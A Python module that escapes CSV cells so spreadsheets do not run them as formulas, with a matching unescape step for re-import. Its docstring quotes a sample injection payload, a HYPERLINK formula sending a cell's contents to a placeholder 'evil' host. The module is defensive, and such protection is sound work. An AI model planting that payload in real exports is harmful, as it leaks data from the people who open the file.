"""CSV cells that a spreadsheet will not run as formulas (CSV / formula injection).

Excel, WPS and LibreOffice treat a cell that starts with `=`, `+`, `-` or `@` as a formula (and a
leading tab or carriage return can smuggle one in), so an office name such as
`=HYPERLINK("http://evil/?"&A1,"点此")` typed into the console would run on the admin's machine
when they open the export. Every exported cell goes through `safe_cell`, which prefixes such a
cell with a `'` (shown as text, the quote itself hidden by Excel); the importers pass every
cell through `unescape_cell`, so a file exported and imported again is unchanged (a value that
itself starts with `'=` is exported as `''=`, so even that comes back as it was). Plain numbers
(`-12.5`, `+3`) are left as they are: a number is not a formula, and Excel keeps them numeric.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _needs_quote(value: str) -> bool:
    """A formula start, or one already behind quotes (so that a quote typed by hand survives)."""
    rest = value.lstrip("'")
    return rest.startswith(FORMULA_TRIGGERS) and _PLAIN_NUMBER.fullmatch(rest) is None


def safe_cell(value: object) -> str:
    """The text of one cell, with a leading `'` if a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if _needs_quote(text) else text


def safe_row(values: Iterable[object]) -> list[str]:
    return [safe_cell(v) for v in values]


def safe_csv(
    header: Iterable[object], rows: Iterable[Iterable[object]], *, lineterminator: str = "\n"
) -> str:
    """The text of a CSV export: `header`, then `rows` with every cell through `safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=lineterminator)
    writer.writerow(header)
    writer.writerows(safe_row(row) for row in rows)
    return out.getvalue()


def unescape_cell(value: str) -> str:
    """The inverse of `safe_cell` for an imported cell: `'=x` -> `=x`; anything else unchanged."""
    if value.startswith("'") and _needs_quote(value[1:]):
        return value[1:]
    return value
